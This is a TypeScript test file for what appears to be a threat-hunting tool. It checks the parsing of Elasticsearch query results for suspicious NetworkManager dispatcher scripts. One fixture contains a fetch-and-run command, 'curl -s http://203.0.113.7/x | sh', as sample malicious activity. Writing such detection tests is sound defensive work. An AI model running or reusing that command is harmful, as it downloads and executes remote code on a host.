import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { MalformedResponseError } from '../functions/core/errors';
import { groupKeyOf, parseGroupSamples, parseRareGroupCount, parseRareGroups } from '../functions/core/esql-result';
import { huntById } from '../functions/core/hunts';
import { CHILD_COLUMNS, WRITE_COLUMNS, WRITE_SAMPLE_COLUMNS, childRow, responseFor, writeRow, writeSamples } from './support/rows';

const child = huntById('dispatcher-script-child')!;
const write = huntById('dispatcher-script-write')!;
const SAMPLE_NAMES = write.samples.map((s) => s.name);

describe('parsing a _query response', () => {
  it('reads cells by column name whatever the column order', () => {
    const a = parseRareGroups(child, responseFor(CHILD_COLUMNS, [childRow()]));
    const b = parseRareGroups(child, responseFor([...CHILD_COLUMNS].reverse(), [childRow()]));
    assert.deepEqual(a, b);
    const [group] = a.groups;
    assert.deepEqual(group!.values, ['/etc/NetworkManager/dispatcher.d/99-evil', '/usr/bin/curl', 'curl -s http://203.0.113.7/x | sh']);
    assert.equal(group!.eventCount, 2);
  });

  it('reads samples whether VALUES() gave a scalar, a list with nulls or null', () => {
    const { samples } = parseGroupSamples(write, responseFor(WRITE_SAMPLE_COLUMNS, [writeSamples({ host_names: ['a', null, 'b'], agent_ids: null, 'process.executable': null })]), SAMPLE_NAMES);
    const got = samples.get(groupKeyOf(['/etc/NetworkManager/dispatcher.d/99-evil', null]))!;
    assert.deepEqual(got.host_names, ['a', 'b']);
    assert.deepEqual(got.agent_ids, []);
    assert.deepEqual(got.users, ['root'], 'a single VALUES() value arrives as a scalar');
  });

  it('keeps a missing group value as null, distinct from the text "null"', () => {
    const { groups } = parseRareGroups(write, responseFor(WRITE_COLUMNS, [writeRow({ 'process.executable': null }), writeRow({ 'process.executable': 'null' })]));
    assert.notEqual(groupKeyOf(groups[0]!.values), groupKeyOf(groups[1]!.values));
  });

  it('treats an answer without columns as no data from this source', () => {
    assert.deepEqual(parseRareGroups(write, { took: 1, is_partial: false, columns: [], values: [] }), { groups: [], partial: false, noData: true, tookMs: 1 });
  });

  it('carries is_partial through', () => {
    assert.equal(parseRareGroups(write, responseFor(WRITE_COLUMNS, [writeRow()], { is_partial: true })).partial, true);
  });

  it('reads the number of rare groups', () => {
    assert.equal(parseRareGroupCount(write.id, responseFor(['rare_groups'], [{ rare_groups: 12_345 }])), 12_345);
  });

  it('rejects malformed answers with a message naming what is wrong', () => {
    assert.throws(() => parseRareGroups(write, 'nope'), MalformedResponseError);
    assert.throws(() => parseRareGroups(write, { columns: [] }), /lacks "columns" or "values"/);
    assert.throws(() => parseRareGroups(write, responseFor(WRITE_COLUMNS.slice(1), [writeRow()])), /lacks columns event_count/);
    assert.throws(() => parseRareGroups(write, responseFor(WRITE_COLUMNS, [writeRow({ event_count: 'many' })])), /row 0 column event_count is not a count/);
    assert.throws(() => parseRareGroups(write, responseFor(WRITE_COLUMNS, [writeRow({ event_count: 1.5 })])), /not a count/);
    assert.throws(() => parseRareGroups(write, responseFor(WRITE_COLUMNS, [writeRow({ last_seen: 'yesterday' })])), /not an ISO-8601 UTC timestamp/);
    assert.throws(() => parseRareGroups(write, { columns: [{ name: 'x', type: 'keyword' }], values: [[1, 2]] }), MalformedResponseError);
    assert.throws(() => parseGroupSamples(write, responseFor(WRITE_COLUMNS, [writeRow()]), SAMPLE_NAMES), /lacks columns agent_hosts/);
  });
});
